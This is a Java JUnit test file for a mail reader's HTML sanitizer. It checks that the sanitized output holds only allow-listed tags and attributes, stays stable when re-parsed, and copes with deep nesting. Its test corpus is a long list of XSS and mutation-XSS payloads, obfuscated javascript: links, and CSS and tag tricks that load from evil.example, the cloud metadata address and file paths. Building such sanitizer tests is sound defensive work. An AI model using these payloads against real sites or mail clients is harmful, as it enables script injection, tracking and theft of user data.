package org.sealpost.reading;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Comment;
import org.jsoup.nodes.DataNode;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.DocumentType;
import org.jsoup.nodes.Element;
import org.jsoup.nodes.Node;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.sealpost.mail.MailContent;
import org.sealpost.mail.mime.MimeReader;
import org.sealpost.testing.Mails;

/// Looks at what comes out as a browser would: parsed. What may be in there is listed here once
/// more, so that a wider list in the code fails the test.
class SafeHtmlTest {
  private static final Set<String> ELEMENTS =
      Set.of(
          ("p div span br hr h1 h2 h3 h4 h5 h6 pre code blockquote center address b strong i em u s"
                  + " strike del ins sub sup small big font tt kbd samp var cite abbr mark q ul ol"
                  + " li dl dt dd table caption thead tbody tfoot tr th td colgroup col figure"
                  + " figcaption img a html head body")
              .split(" "));
  private static final Set<String> ATTRIBUTES =
      Set.of(
          ("align valign dir lang title bgcolor width height border cellpadding cellspacing colspan"
                  + " rowspan color size face start type alt src href rel style")
              .split(" "));
  private static final Pattern LINK = Pattern.compile("(?i)(https?|mailto):.*", Pattern.DOTALL);
  private static final Pattern OWN_IMAGE =
      Pattern.compile("data:image/(png|jpeg|gif|webp|bmp);base64,[A-Za-z0-9+/=]+");
  private static final Pattern LOOSE_STYLE =
      Pattern.compile(
          "(?i)url|position|expression|import|behavior|binding|@|z-index|javascript|[\\\\<>{}]");

  @ParameterizedTest
  @MethodSource
  void ofShouldLetNothingActOrReachOut(String html) throws Exception {
    assertHarmless(html, safe(html));
  }

  static Stream<String> ofShouldLetNothingActOrReachOut() {
    return Stream.of(
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script",
        "<script>alert(1)",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"></svg>",
        "<svg><image href=//evil.example/x></svg>",
        "<svg><filter><feImage href=//evil.example/x></filter></svg>",
        "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        "<math href=javascript:alert(1)>x</math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<p title=\"</p><img src=x onerror=alert(1)>\">",
        "<template><img src=x onerror=alert(1)></template>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<title><img src=x onerror=alert(1)></title>",
        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
        "<plaintext><script>alert(1)</script>",
        "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
        "<style>@import '//evil.example/x.css';</style>",
        "<style>*{background:url(//evil.example/x)}</style>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<link rel=prefetch href=//evil.example/x><link rel=dns-prefetch href=//x.evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<meta http-equiv=Set-Cookie content=a=b>",
        "<base href=//evil.example/><a href=x>x</a>",
        "<form action=//evil.example><input name=passcode><button formaction=//evil.example>ok</button></form>",
        "<input type=image src=//evil.example/x>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<iframe src=//evil.example></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<frameset><frame src=//evil.example></frameset>",
        "<object data=//evil.example/x.swf></object><embed src=//evil.example/x>",
        "<applet code=x archive=//evil.example/x.jar></applet>",
        "<img src=//evil.example/pixel.gif>",
        "<img src=http://169.254.169.254/latest/meta-data/>",
        "<img src=x srcset='//evil.example/x 1x, //evil.example/y 2x'>",
        "<img src=data:image/svg+xml,<svg/onload=alert(1)>>",
        "<img src='data:text/html;base64,PHNjcmlwdD4='>",
        "<img src=\"cid:none\" onerror=alert(1)>",
        "<img src='javascript:alert(1)'>",
        "<img lowsrc=//evil.example/x dynsrc=//evil.example/y longdesc=//evil.example/z>",
        "<img src=file:///etc/passwd><img src='\\\\evil.example\\share\\x'>",
        "<picture><source srcset=//evil.example/x><img src=//evil.example/x></picture>",
        "<video src=//evil.example/x poster=//evil.example/y><track src=//evil.example/z></video>",
        "<audio src=//evil.example/x autoplay></audio>",
        "<bgsound src=//evil.example/x>",
        "<body background=//evil.example/x onload=alert(1)>",
        "<table background=//evil.example/x><td background=//evil.example/x>x</table>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=' &#14; javascript:alert(1)'>x</a>",
        "<a href='java\nscript:alert(1)'>x</a>",
        "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
        "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
        "<a href='javascript\u0000:alert(1)'>x</a>",
        "<a href='\u0001javascript:alert(1)'>x</a>",
        "<a href='java\u00adscript:alert(1)'>x</a>",
        "<a href=vbscript:msgbox(1)>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href=' data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='da\tta:text/html,x'>x</a>",
        "<a href='DATA:text/html,x'>x</a>",
        "<a href='blob:https://x/y'>x</a><a href='file:///x'>x</a><a href='cid:logo@contoso.example'>x</a><a href='ms-msdt:/id'>x</a>",
        "<a href=https://evil.example ping=//evil.example/p target=_top download>x</a>",
        "<a href=x onclick=alert(1) onmouseover=alert(1) style=x:expression(alert(1))>x</a>",
        "<p onclick=alert(1) ONCLICK=alert(1) on\nclick=alert(1)>x</p>",
        "<p style='background:url(//evil.example/x)'>x</p>",
        "<p style='background-image:url(&quot;//evil.example/x&quot;)'>x</p>",
        "<p style='background:u\\72l(//evil.example/x)'>x</p>",
        "<p style='background:image-set(\"//evil.example/x\" 1x)'>x</p>",
        "<p style='list-style:url(//evil.example/x);cursor:url(//evil.example/x),auto'>x</p>",
        "<p style='content:url(//evil.example/x)'>x</p>",
        "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>x</p>",
        "<p style='pos\\69tion:fixed'>x</p><p style='POSITION : absolute'>x</p>",
        "<p style='position/**/:fixed'>x</p>",
        "<p style='width:expression(alert(1))'>x</p>",
        "<p style='behavior:url(x.htc);-moz-binding:url(x.xml#y)'>x</p>",
        "<p style='@import \"//evil.example/x\"'>x</p>",
        "<p style='color:red;}</style><script>alert(1)</script>'>x</p>",
        "<p style='font-family:\"x;background:url(//evil.example)\"'>x</p>",
        "<p style=\"font-family:'</p><img src=x onerror=alert(1)>'\">x</p>",
        "<p style='--x:url(//evil.example);background:var(--x)'>x</p>",
        "<p style='filter:url(//evil.example/x#y);mask:url(//evil.example/x)'>x</p>",
        "<font face='x\" onmouseover=\"alert(1)'>x</font>",
        "<font color='url(//evil.example)' size='expression(1)'>x</font>",
        "<img alt='`><script>alert(1)</script>'>",
        "<img alt=\"x` `<script>alert(1)</script>\"` `>",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<!-- --!><script>alert(1)</script> -->",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml-stylesheet href='javascript:alert(1)'?><?php x ?>",
        "<!DOCTYPE html [<!ENTITY x '<script>'>]><p>&x;</p>",
        "<img src='//evil.example/?",
        "<a href='https://evil.example/?leak=",
        "<p title='<script>",
        "<table><a href=javascript:alert(1)><tr><td><a href=javascript:alert(1)>x",
        "<b><p><i></b><script></i>alert(1)</script>",
        "<portal src=//evil.example></portal><fencedframe></fencedframe>",
        "<x-custom onclick=alert(1)>x</x-custom>",
        "<div id=app class=x name=y data-x=y contenteditable tabindex=1 accesskey=x autofocus>x</div>",
        "<details open ontoggle=alert(1)>x</details><dialog open>x</dialog>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<isindex action=//evil.example><keygen>",
        "<col width='1' style='background:url(//evil.example/x)'>",
        "<td bgcolor='javascript:alert(1)' width='expression(1)'>",
        "<p dir='rtl\" onclick=\"x' lang='\"><script>'>x</p>",
        "\ufeff<script>alert(1)</script>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\u0000<\u0000script>alert(1)</script>",
        "<\u017fcript>alert(1)</\u017fcript>",
        "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
        "<p>&amp;lt;script&amp;gt;</p>",
        "{{constructor.constructor('alert(1)')()}}");
  }

  @Test
  void ofShouldLetNothingThroughInAnyMixture() throws Exception {
    List<String> corpus = ofShouldLetNothingActOrReachOut().toList();
    Random random = new Random(10);
    for (int round = 0; round < 1_000; round++) {
      StringBuilder html = new StringBuilder();
      for (int count = 1 + random.nextInt(4); count > 0; count--) {
        String item = corpus.get(random.nextInt(corpus.size()));
        int from = random.nextInt(item.length());
        html.append(random.nextBoolean() ? item : item.substring(from));
      }
      assertHarmless(html.toString(), safe(html.toString()));
    }
  }

  /// What has been made safe stays as it is: nothing in it comes to life on the second reading
  /// (mutation XSS).
  @ParameterizedTest
  @MethodSource("ofShouldLetNothingActOrReachOut")
  void ofShouldBeStable(String html) throws Exception {
    String once = safe(html);

    assertHarmless(html, Jsoup.parseBodyFragment(once).body().html());
    assertHarmless(html, safe(once));
  }

  /// Below 256 levels the sanitizer shows nothing any more.
  @ParameterizedTest
  @ValueSource(
      strings = {
        "<div>",
        "<table><tr><td>",
        "<b><i>",
        "<a href=x>",
        "<blockquote>",
        "<ul><li>",
        "<font>",
        "<p style='color:red'>"
      })
  void ofShouldEndSoonForDepth(String open) throws Exception {
    String html = open.repeat(200_000 / (open.length() / 5 + 1)) + "the end";

    String safe = assertTimeoutPreemptively(Duration.ofSeconds(60), () -> safe(html));

    assertHarmless(open, safe);
  }

  @Test
  void ofShouldEndSoonForHugeAttributes() throws Exception {
    String html =
        "<p style='"
            + "color:red;".repeat(200_000)
            + "' title='"
            + "x".repeat(2_000_000)
            + "'>y</p>";

    String safe = assertTimeoutPreemptively(Duration.ofSeconds(60), () -> safe(html));

    assertHarmless("huge", safe);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "<p align=\"center\">a <b>b</b></p> | <p align=\"center\">a <b>b</b></p>",
        "<span>x</span> | <span>x</span>",
        "<table><tbody><tr><td colspan=\"2\">x</td></tr></tbody></table> |"
            + " <table><tbody><tr><td colspan=\"2\">x</td></tr></tbody></table>",
        "<p style=\"color:#ff0000\">x</p> | <p style=\"color:#ff0000\">x</p>",
        "a &lt; b &amp; c | a &lt; b &amp; c",
      })
  void ofShouldKeepWhatIsHarmless(String html, String expected) throws Exception {
    assertThat(Jsoup.parseBodyFragment(safe(html)).body().html().replace("\n", ""))
        .isEqualTo(Jsoup.parseBodyFragment(expected).body().html().replace("\n", ""));
  }

  @Test
  void ofShouldKeepLinksThatTellNothing() throws Exception {
    Element link =
        Jsoup.parse(safe("<a href='https://partner.example/?a=1&amp;b=2'>x</a>")).expectFirst("a");

    assertThat(link.attr("href")).isEqualTo("https://partner.example/?a=1&b=2");
    assertThat(link.attr("rel").split(" ")).contains("noopener", "noreferrer", "nofollow");
  }

  @Test
  void ofShouldEscapePlainText() throws Exception {
    String text = "<script>alert(1)</script> & \"x\" 'y' </pre>";

    String safe = SafeHtml.of(content(Mails.withFields("\n" + text)), InlineImages.of(List.of()));

    Document parsed = Jsoup.parse(safe);
    assertHarmless(text, safe);
    assertThat(parsed.select("pre").text()).isEqualTo(text);
  }

  @Test
  void ofShouldShowInlineImages() throws Exception {
    MailContent content = content(Mails.complete());

    String safe = SafeHtml.of(content, InlineImages.of(content.parts()));

    assertThat(Jsoup.parse(safe).select("img").attr("src"))
        .isEqualTo("data:image/png;base64," + Mails.PNG_BASE64);
  }

  private static String safe(String html) throws Exception {
    byte[] message =
        Mails.withFields("Content-Type: text/html; charset=utf-8\n\n" + html.replace("\r", ""));
    return SafeHtml.of(content(message), InlineImages.of(List.of()));
  }

  private static MailContent content(byte[] message) throws Exception {
    assertThat(new String(message, ISO_8859_1)).isNotEmpty();
    return MimeReader.read(message);
  }

  private static void assertHarmless(String html, String safe) {
    Document parsed = Jsoup.parse(safe);
    for (Node node : parsed.nodeStream().toList()) {
      // The sanitizer parts double braces with an empty comment, so that no template comes to life.
      if (node instanceof Comment comment && comment.getData().isBlank()) {
        continue;
      }
      assertThat(node)
          .as(html)
          .isNotInstanceOfAny(Comment.class, DataNode.class, DocumentType.class);
      if (node instanceof Element element && !(node instanceof Document)) {
        assertThat(ELEMENTS).as(html).contains(element.tagName());
        for (Attribute attribute : element.attributes()) {
          assertHarmless(html, element.tagName(), attribute);
        }
      }
    }
  }

  private static void assertHarmless(String html, String tag, Attribute attribute) {
    String value = attribute.getValue();
    assertThat(ATTRIBUTES).as(html).contains(attribute.getKey());
    switch (attribute.getKey().toLowerCase(Locale.ROOT)) {
      case "src" -> assertThat(value).as(html).matches(OWN_IMAGE);
      case "href" -> {
        assertThat(tag).isEqualTo("a");
        assertThat(value.strip()).as(html).matches(LINK);
      }
      case "style" -> assertThat(value).as(html).doesNotContainPattern(LOOSE_STYLE);
      default -> assertThat(tag).isNotEmpty();
    }
  }
}
